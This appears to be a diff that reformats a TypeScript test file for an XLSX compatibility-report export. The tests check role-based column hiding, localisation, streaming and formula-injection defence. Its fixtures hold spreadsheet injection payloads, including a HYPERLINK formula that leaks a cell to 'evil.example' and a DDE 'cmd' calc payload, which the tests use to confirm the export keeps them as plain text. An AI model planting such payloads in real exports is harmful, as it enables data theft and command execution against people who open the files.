@@ -6,7 +6,10 @@ import os from 'node:os';
 import path from 'node:path';
 import zlib from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { compatibilityReport, REPORT_LIMITS } from '../../src/modules/compatibility-report/compatibility-report.service.js';
+import {
+  compatibilityReport,
+  REPORT_LIMITS,
+} from '../../src/modules/compatibility-report/compatibility-report.service.js';
 import { buildTestApp, type TestApp, type TestRole } from '../support/test-app.js';
 
 let t: TestApp;
@@ -14,7 +17,12 @@ let t: TestApp;
 const ALL = '/api/reports/systems/assemblies';
 const one = (systemId: number | string) => `/api/reports/systems/${systemId}/assemblies`;
 const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
-const STATUS_EN = { allowed: 'Allowed', conditional: 'Conditional', forbidden: 'Forbidden', irrelevant: 'Irrelevant' } as const;
+const STATUS_EN = {
+  allowed: 'Allowed',
+  conditional: 'Conditional',
+  forbidden: 'Forbidden',
+  irrelevant: 'Irrelevant',
+} as const;
 
 // Names a spreadsheet could take for formulas (CSV/formula injection), created through the API.
 const FORMULA_SYSTEM = '=HYPERLINK("https://evil.example/?leak="&A2,"click")';
@@ -22,7 +30,7 @@ const FORMULA_VERSION = '+1.0';
 const FORMULA_ASSEMBLY = '@SUM(1+1)';
 const FORMULA_PART = '-2+3';
 const FORMULA_MATERIAL = '=1+1';
-const FORMULA_OBLIGATION = '=cmd|\' /C calc\'!A0';
+const FORMULA_OBLIGATION = "=cmd|' /C calc'!A0";
 const FORMULA_REFERENCE = '=REF()-1';
 const COMMENT = 'Geprüft, siehe =A1';
 // Written through SQL: the API trims leading tabs and carriage returns away, but older or imported
@@ -41,21 +49,34 @@ beforeAll(async () => {
   const assembly = (await t.call('POST', '/api/assemblies', { name: FORMULA_ASSEMBLY })).body as Item;
   const tabbed = (await t.call('POST', '/api/assemblies', { name: 'Tab placeholder assembly' })).body as Item;
   fixture.assemblyVersions = [
-    (await t.call('POST', `${assembly.href}/versions`, { name: FORMULA_PART, name2: FORMULA_MATERIAL })).body as Version,
+    (await t.call('POST', `${assembly.href}/versions`, { name: FORMULA_PART, name2: FORMULA_MATERIAL }))
+      .body as Version,
     (await t.call('POST', `${tabbed.href}/versions`, { name: 'A2V-TAB-1' })).body as Version,
   ];
-  const formulaInfo = (await t.call('POST', '/api/compatibility_infos', { compatibility_status: 'forbidden', obligation: FORMULA_OBLIGATION })).body as CompatibilityInfo;
-  const crInfo = (await t.call('POST', '/api/compatibility_infos', { compatibility_status: 'conditional', obligation: 'placeholder' })).body as CompatibilityInfo;
+  const formulaInfo = (
+    await t.call('POST', '/api/compatibility_infos', {
+      compatibility_status: 'forbidden',
+      obligation: FORMULA_OBLIGATION,
+    })
+  ).body as CompatibilityInfo;
+  const crInfo = (
+    await t.call('POST', '/api/compatibility_infos', { compatibility_status: 'conditional', obligation: 'placeholder' })
+  ).body as CompatibilityInfo;
   const reference = (await t.call('POST', '/api/references', { reference: FORMULA_REFERENCE })).body as Reference;
   const sv = idOfHref(fixture.systemVersion.href);
   const [a1, a2] = fixture.assemblyVersions.map((v) => idOfHref(v.href));
   const pair = (av: number) => `/api/systems/versions/${sv}/compatibilities/assemblies/${av}`;
   expect((await t.call('POST', pair(a1!), { compatibility_info: { href: formulaInfo.href } })).status).toBe(201);
   expect((await t.call('POST', pair(a2!), { compatibility_info: { href: crInfo.href } })).status).toBe(201);
-  expect((await t.call('POST', `${pair(a1!)}/references`, { reference_info: { href: reference.href } })).status).toBe(204);
+  expect((await t.call('POST', `${pair(a1!)}/references`, { reference_info: { href: reference.href } })).status).toBe(
+    204,
+  );
   expect((await t.call('POST', `${pair(a1!)}/commentaries`, { comment: COMMENT })).status).toBe(201);
   await t.pool.query('update items set name = $1 where id = $2', [TAB_ASSEMBLY, idOfHref(tabbed.href)]);
-  await t.pool.query('update compatibility_infos set obligation = $1 where id = $2', [CR_OBLIGATION, idOfHref(crInfo.href)]);
+  await t.pool.query('update compatibility_infos set obligation = $1 where id = $2', [
+    CR_OBLIGATION,
+    idOfHref(crInfo.href),
+  ]);
 
   const empty = (await t.call('POST', '/api/systems', { name: 'Report Test System Without Versions' })).body as Item;
   fixture.emptySystemId = idOfHref(empty.href);
@@ -64,8 +85,18 @@ afterAll(() => t.close());
 
 // ---- helpers ----------------------------------------------------------------------------------
 
-async function download(url: string, role: TestRole = 'admin', payload: unknown = { type: 'xls' }, headers: Record<string, string> = {}) {
-  return t.app.inject({ method: 'POST', url, payload: payload as object, headers: { ...(await t.as(role)), ...headers } });
+async function download(
+  url: string,
+  role: TestRole = 'admin',
+  payload: unknown = { type: 'xls' },
+  headers: Record<string, string> = {},
+) {
+  return t.app.inject({
+    method: 'POST',
+    url,
+    payload: payload as object,
+    headers: { ...(await t.as(role)), ...headers },
+  });
 }
 
 async function workbookOf(file: Buffer) {
@@ -101,9 +132,20 @@ const rowTexts = (sheet: ExcelJS.Worksheet, n: number) => {
   const row = sheet.getRow(n);
   return Array.from({ length: sheet.columnCount }, (_, i) => textOf(row.getCell(i + 1)));
 };
-const dataRows = (sheet: ExcelJS.Worksheet) => Array.from({ length: sheet.rowCount - 1 }, (_, i) => rowTexts(sheet, i + 2));
+const dataRows = (sheet: ExcelJS.Worksheet) =>
+  Array.from({ length: sheet.rowCount - 1 }, (_, i) => rowTexts(sheet, i + 2));
 
-type DbRow = { system: string; version: string; assembly: string; part: string | null; material: string | null; status: keyof typeof STATUS_EN; obligation: string; refs: string; modified_ms: number };
+type DbRow = {
+  system: string;
+  version: string;
+  assembly: string;
+  part: string | null;
+  material: string | null;
+  status: keyof typeof STATUS_EN;
+  obligation: string;
+  refs: string;
+  modified_ms: number;
+};
 
 /** What the database holds for the system–assembly compatibilities, independent of the report's queries. */
 async function dbRows(systemId?: number): Promise<DbRow[]> {
@@ -133,9 +175,28 @@ async function busiestSystem(): Promise<{ id: number; name: string }> {
   return result.rows[0]!;
 }
 
-const HEADERS_ADMIN = ['System', 'System version', 'Assembly', 'Part number (GS)', 'Material number (GS)', 'Status', 'Obligation text', 'References', 'Comments', 'Modified'];
+const HEADERS_ADMIN = [
+  'System',
+  'System version',
+  'Assembly',
+  'Part number (GS)',
+  'Material number (GS)',
+  'Status',
+  'Obligation text',
+  'References',
+  'Comments',
+  'Modified',
+];
 const HEADERS_INTERN = HEADERS_ADMIN.filter((h) => h !== 'Comments');
-const HEADERS_EXTERN = ['System', 'System version', 'Assembly', 'Part number (GS)', 'Material number (GS)', 'Status', 'Modified'];
+const HEADERS_EXTERN = [
+  'System',
+  'System version',
+  'Assembly',
+  'Part number (GS)',
+  'Material number (GS)',
+  'Status',
+  'Modified',
+];
 
 // ---- the file ---------------------------------------------------------------------------------
 
@@ -175,7 +236,9 @@ describe('compatibility report of all systems', () => {
     const expected = await dbRows();
     expect(sheet.rowCount - 1).toBe(expected.length);
     const about = workbook.worksheets[1]!;
-    const facts = new Map(Array.from({ length: about.rowCount }, (_, i) => rowTexts(about, i + 1)).map(([k = '', v = '']) => [k, v]));
+    const facts = new Map(
+      Array.from({ length: about.rowCount }, (_, i) => rowTexts(about, i + 1)).map(([k = '', v = '']) => [k, v]),
+    );
     expect(facts.get('Systems')).toBe('All systems');
     expect(facts.get('Compatibilities listed')).toBe(String(expected.length));
     expect(facts.get('Created by')).toBe('admin');
@@ -189,12 +252,21 @@ describe('compatibility report of all systems', () => {
       // The whole row carries its status colour.
       expect((sheet.getRow(n).getCell(1).fill as ExcelJS.FillPattern).fgColor?.argb).toBe(fills.get(textOf(status)));
     }
-    expect(Object.fromEntries(fills)).toEqual({ Allowed: 'FFD3F9D8', Conditional: 'FFFFE8CC', Forbidden: 'FFFFE3E3', Irrelevant: 'FFC5F6FA' });
+    expect(Object.fromEntries(fills)).toEqual({
+      Allowed: 'FFD3F9D8',
+      Conditional: 'FFFFE8CC',
+      Forbidden: 'FFFFE3E3',
+      Irrelevant: 'FFC5F6FA',
+    });
   });
 
   it('keeps admins’ comments with author and time (dd.MM.yyyy HH:mm:ss)', () => {
     const row = dataRows(sheet).find((r) => r[0] === FORMULA_SYSTEM && r[2] === FORMULA_ASSEMBLY)!;
-    expect(row[8]).toMatch(new RegExp(`^admin, \\d\\d\\.\\d\\d\\.\\d{4} \\d\\d:\\d\\d:\\d\\d: ${COMMENT.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`));
+    expect(row[8]).toMatch(
+      new RegExp(
+        `^admin, \\d\\d\\.\\d\\d\\.\\d{4} \\d\\d:\\d\\d:\\d\\d: ${COMMENT.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`,
+      ),
+    );
   });
 
   it('writes the modification time as a date shown as dd.MM.yyyy HH:mm:ss in the server’s time zone', async () => {
@@ -218,7 +290,16 @@ describe('content of one system, compared with the database', () => {
     const sheet = (await workbookOf(res.rawPayload)).worksheets[0]!;
     expect(rowTexts(sheet, 1)).toEqual(HEADERS_INTERN);
     const got = dataRows(sheet).map((r) => r.slice(0, 8));
-    const expected = (await dbRows(system.id)).map((r) => [r.system, r.version, r.assembly, r.part ?? '', r.material ?? '', STATUS_EN[r.status], r.obligation, r.refs]);
+    const expected = (await dbRows(system.id)).map((r) => [
+      r.system,
+      r.version,
+      r.assembly,
+      r.part ?? '',
+      r.material ?? '',
+      STATUS_EN[r.status],
+      r.obligation,
+      r.refs,
+    ]);
     expect(expected.length).toBeGreaterThan(20);
     expect(got.length).toBe(expected.length);
     const key = (r: string[]) => JSON.stringify(r);
@@ -267,7 +348,9 @@ describe('role projection', () => {
 
     const xml = [...unzip(res.rawPayload).values()].join('\n');
     const rows = await dbRows();
-    const comments = (await t.pool.query<{ comment: string }>('select distinct comment from comments')).rows.map((r) => r.comment);
+    const comments = (await t.pool.query<{ comment: string }>('select distinct comment from comments')).rows.map(
+      (r) => r.comment,
+    );
     const secrets = new Set([
       ...rows.map((r) => r.obligation).filter((o) => o.length > 3),
       ...rows.flatMap((r) => (r.refs ? r.refs.split('; ') : [])),
@@ -278,7 +361,15 @@ describe('role projection', () => {
     expect(secrets.size).toBeGreaterThan(5);
     // Searched for as they stand in the XML: & < > " ' escaped; the longest run without control
     // characters (those are escaped or dropped).
-    const inXml = (text: string) => text.split(/[\u0000-\u001f\ufffe\uffff]/).sort((a, b) => b.length - a.length)[0]!.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&apos;');
+    const inXml = (text: string) =>
+      text
+        .split(/[\u0000-\u001f\ufffe\uffff]/)
+        .sort((a, b) => b.length - a.length)[0]!
+        .replace(/&/g, '&amp;')
+        .replace(/</g, '&lt;')
+        .replace(/>/g, '&gt;')
+        .replace(/"/g, '&quot;')
+        .replace(/'/g, '&apos;');
     for (const secret of secrets) expect(xml, secret).not.toContain(inXml(secret));
   });
 
@@ -302,7 +393,16 @@ describe('texts that look like formulas or break XML', () => {
   it('stays text: a name starting with = is a string cell, never a formula', () => {
     const n = dataRows(sheet).findIndex((r) => r[2] === FORMULA_ASSEMBLY) + 2;
     const row = sheet.getRow(n);
-    expect(rowTexts(sheet, n).slice(0, 8)).toEqual([FORMULA_SYSTEM, FORMULA_VERSION, FORMULA_ASSEMBLY, FORMULA_PART, FORMULA_MATERIAL, 'Forbidden', FORMULA_OBLIGATION, FORMULA_REFERENCE]);
+    expect(rowTexts(sheet, n).slice(0, 8)).toEqual([
+      FORMULA_SYSTEM,
+      FORMULA_VERSION,
+      FORMULA_ASSEMBLY,
+      FORMULA_PART,
+      FORMULA_MATERIAL,
+      'Forbidden',
+      FORMULA_OBLIGATION,
+      FORMULA_REFERENCE,
+    ]);
     for (let c = 1; c <= 8; c++) {
       const cell = row.getCell(c);
       expect(cell.type, `column ${c}`).not.toBe(ExcelJS.ValueType.Formula);
@@ -333,19 +433,42 @@ describe('texts that look like formulas or break XML', () => {
 
 describe('language', () => {
   it('follows Accept-Language: German headers, statuses and sheet names', async () => {
-    const res = await download(one(fixture.systemId), 'intern', { type: 'xls' }, { 'accept-language': 'de-DE,de;q=0.9,en;q=0.5' });
+    const res = await download(
+      one(fixture.systemId),
+      'intern',
+      { type: 'xls' },
+      { 'accept-language': 'de-DE,de;q=0.9,en;q=0.5' },
+    );
     expect(res.headers['content-language']).toBe('de');
     const workbook = await workbookOf(res.rawPayload);
     expect(workbook.worksheets.map((s) => s.name)).toEqual(['Kompatibilitäten', 'Zu diesem Bericht']);
     const sheet = workbook.worksheets[0]!;
-    expect(rowTexts(sheet, 1)).toEqual(['System', 'Systemversion', 'Baugruppe', 'Siemens-Sach-Nr. (GS)', 'Material-Nr. (GS)', 'Status', 'Auflagentext', 'Referenzen', 'Geändert']);
+    expect(rowTexts(sheet, 1)).toEqual([
+      'System',
+      'Systemversion',
+      'Baugruppe',
+      'Siemens-Sach-Nr. (GS)',
+      'Material-Nr. (GS)',
+      'Status',
+      'Auflagentext',
+      'Referenzen',
+      'Geändert',
+    ]);
     expect(new Set(dataRows(sheet).map((r) => r[5]))).toEqual(new Set(['Verboten', 'Vorbehalt']));
   });
 
   it('French', async () => {
     const res = await download(one(fixture.systemId), 'extern', { type: 'xls' }, { 'accept-language': 'fr' });
     const sheet = (await workbookOf(res.rawPayload)).worksheets[0]!;
-    expect(rowTexts(sheet, 1)).toEqual(['Système', 'Version du système', 'Sous-ensemble', 'N° de pièce (GS)', 'N° de matériel (GS)', 'Statut', 'Modifié']);
+    expect(rowTexts(sheet, 1)).toEqual([
+      'Système',
+      'Version du système',
+      'Sous-ensemble',
+      'N° de pièce (GS)',
+      'N° de matériel (GS)',
+      'Statut',
+      'Modifié',
+    ]);
   });
 });
 
@@ -361,7 +484,8 @@ describe('refusals', () => {
     const unknown = await download(one(2_000_000_000), 'intern');
     expect(unknown.statusCode).toBe(404);
     expect(unknown.json().message).toBe('System 2000000000 was not found.');
-    const assemblyId = (await t.pool.query<{ id: number }>(`select id from items where kind = 'assembly' limit 1`)).rows[0]!.id;
+    const assemblyId = (await t.pool.query<{ id: number }>(`select id from items where kind = 'assembly' limit 1`))
+      .rows[0]!.id;
     expect((await download(one(assemblyId), 'intern')).statusCode).toBe(404);
     const german = await download(one(2_000_000_000), 'intern', { type: 'xls' }, { 'accept-language': 'de' });
     expect(german.json().message).toBe('System 2000000000 wurde nicht gefunden.');
@@ -388,14 +512,21 @@ describe('refusals', () => {
   it('answers 400 without a body or with one that is not JSON', async () => {
     const none = await t.app.inject({ method: 'POST', url: ALL, headers: await t.as('admin') });
     expect(none.statusCode).toBe(400);
-    const broken = await t.app.inject({ method: 'POST', url: ALL, payload: '{type:', headers: { ...(await t.as('admin')), 'content-type': 'application/json' } });
+    const broken = await t.app.inject({
+      method: 'POST',
+      url: ALL,
+      payload: '{type:',
+      headers: { ...(await t.as('admin')), 'content-type': 'application/json' },
+    });
     expect(broken.statusCode).toBe(400);
   });
 });
 
 describe('API description', () => {
   it('lists both routes in the OpenAPI document', async () => {
-    const doc = (await t.app.inject({ url: '/api/openapi.json', headers: await t.as('admin') })).json() as { paths: Record<string, { post?: { summary?: string } }> };
+    const doc = (await t.app.inject({ url: '/api/openapi.json', headers: await t.as('admin') })).json() as {
+      paths: Record<string, { post?: { summary?: string } }>;
+    };
     expect(doc.paths['/api/reports/systems/assemblies']?.post?.summary).toMatch(/all systems/);
     expect(doc.paths['/api/reports/systems/{id}/assemblies']?.post?.summary).toMatch(/one system/);
   });
@@ -409,7 +540,12 @@ describe('deployments', () => {
       const report = await live.app.inject({ method: 'POST', url: ALL, payload: { type: 'xls' }, headers });
       expect(report.statusCode).toBe(200);
       expect(report.headers['content-type']).toBe(XLSX);
-      const write = await live.app.inject({ method: 'POST', url: '/api/systems', payload: { name: 'Not on live' }, headers: await live.as('admin') });
+      const write = await live.app.inject({
+        method: 'POST',
+        url: '/api/systems',
+        payload: { name: 'Not on live' },
+        headers: await live.as('admin'),
+      });
       expect(write.statusCode).toBe(403);
     } finally {
       await live.close();
@@ -424,11 +560,18 @@ describe('streaming', () => {
     const system = await busiestSystem();
     const whole = dataRows((await workbookOf((await download(one(system.id), 'intern')).rawPayload)).worksheets[0]!);
     // Excel's 1,048,576 rows per sheet, scaled down to 20 data rows a sheet; pages of 7 rows do not line up with sheets.
-    const stream = await compatibilityReport(t.db, { role: 'intern', username: 'intern', language: 'de', systemId: system.id }, { rowsPerSheet: 21, pageSize: 7 });
+    const stream = await compatibilityReport(
+      t.db,
+      { role: 'intern', username: 'intern', language: 'de', systemId: system.id },
+      { rowsPerSheet: 21, pageSize: 7 },
+    );
     const workbook = await workbookOf(Buffer.concat(await stream.toArray()));
     const sheets = workbook.worksheets.slice(0, -1);
     expect(sheets).toHaveLength(Math.ceil(whole.length / 20));
-    expect(sheets.map((s) => s.name)).toEqual(['Kompatibilitäten', ...sheets.slice(1).map((_, i) => `Kompatibilitäten ${i + 2}`)]);
+    expect(sheets.map((s) => s.name)).toEqual([
+      'Kompatibilitäten',
+      ...sheets.slice(1).map((_, i) => `Kompatibilitäten ${i + 2}`),
+    ]);
     for (const sheet of sheets) {
       expect(rowTexts(sheet, 1)[0]).toBe('System');
       expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
@@ -442,9 +585,17 @@ describe('streaming', () => {
 
   it('waits for a reader that does not read, and ends its transaction when the reader leaves', async () => {
     const openTransactions = async () =>
-      (await t.pool.query<{ n: number }>(`select count(*)::int as n from pg_stat_activity where datname = current_database() and state like 'idle in transaction%'`)).rows[0]!.n;
+      (
+        await t.pool.query<{ n: number }>(
+          `select count(*)::int as n from pg_stat_activity where datname = current_database() and state like 'idle in transaction%'`,
+        )
+      ).rows[0]!.n;
     expect(await openTransactions()).toBe(0);
-    const stream = await compatibilityReport(t.db, { role: 'admin', username: 'admin', language: 'en' }, { ...REPORT_LIMITS, pageSize: 5 });
+    const stream = await compatibilityReport(
+      t.db,
+      { role: 'admin', username: 'admin', language: 'en' },
+      { ...REPORT_LIMITS, pageSize: 5 },
+    );
     // Nothing is read: once the buffers are full the report waits with its snapshot open instead of
     // generating on into memory (the whole S report takes well under this long).
     await new Promise((resolve) => setTimeout(resolve, 700));
@@ -494,7 +645,9 @@ print(json.dumps({
   "dateFormat": target[9].number_format,
   "dateType": target[9].data_type,
 }))`;
-      const out = JSON.parse(execFileSync(python!, ['-c', script, filePath, FORMULA_ASSEMBLY], { encoding: 'utf8' })) as Record<string, unknown>;
+      const out = JSON.parse(
+        execFileSync(python!, ['-c', script, filePath, FORMULA_ASSEMBLY], { encoding: 'utf8' }),
+      ) as Record<string, unknown>;
       const expectedRows = (await dbRows()).length;
       expect(out).toMatchObject({
         sheets: ['Compatibilities', 'About this report'],
@@ -503,7 +656,16 @@ print(json.dumps({
         header: HEADERS_ADMIN,
         rows: expectedRows,
         types: ['s'],
-        target: [FORMULA_SYSTEM, FORMULA_VERSION, FORMULA_ASSEMBLY, FORMULA_PART, FORMULA_MATERIAL, 'Forbidden', FORMULA_OBLIGATION, FORMULA_REFERENCE],
+        target: [
+          FORMULA_SYSTEM,
+          FORMULA_VERSION,
+          FORMULA_ASSEMBLY,
+          FORMULA_PART,
+          FORMULA_MATERIAL,
+          'Forbidden',
+          FORMULA_OBLIGATION,
+          FORMULA_REFERENCE,
+        ],
         targetTypes: ['s', 's', 's', 's', 's', 's', 's', 's'],
         dateFormat: 'dd.mm.yyyy hh:mm:ss',
         dateType: 'd',
